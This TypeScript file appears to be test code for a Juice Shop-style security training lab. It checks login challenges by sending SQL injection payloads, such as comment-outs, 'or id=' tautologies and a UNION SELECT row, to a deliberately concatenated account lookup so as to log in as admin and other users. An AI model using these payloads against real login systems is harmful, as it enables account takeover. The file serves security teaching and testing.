import { createHash } from 'node:crypto'
import type { ChallengeKey } from '../../../../../lab/challenges/catalogue.js'
import type { Ports } from '../../../../../lab/ports.js'
import { logInAs } from '../../../../../lab/proofs/features/accounts.js'
import type { Proof } from '../proof.js'
import { tryTable } from './from-table.js'

interface Source {
  readonly findAccountByConcatenation: Ports['findAccount']
}

function proveLogin(key: ChallengeKey, id: number, email: string): Proof {
  return {
    async try(version) {
      const { findAccountByConcatenation } = await version.load<Source>()
      const attacks = payloadsFor(id, email).map((payload) => logInAs(payload, password))
      return tryTable(key, { findAccount: findAccountByConcatenation }, { attacks })
    },
  }
}

export const loginAdmin = proveLogin('loginAdminChallenge', 1, 'admin@juice-sh.op')
export const loginJim = proveLogin('loginJimChallenge', 2, 'jim@juice-sh.op')
export const loginBender = proveLogin('loginBenderChallenge', 3, 'bender@juice-sh.op')

const password = 'nobody has this password'

function payloadsFor(id: number, email: string): string[] {
  const hash = createHash('md5').update(password).digest('hex')
  const row = `${id},'','${email}','${hash}','customer','','','','',1,'2026-01-01','2026-01-01',null`
  return [
    `${email}'--`,
    `' or id=${id}--`,
    `' or id=${id} or '`,
    `${email}' or '1'='2`,
    `' UNION SELECT ${row}--`,
    `\\' or id=${id}--`,
    `${email}'/*`,
    `${email}'-;-`,
    `${email}\\`,
  ]
}
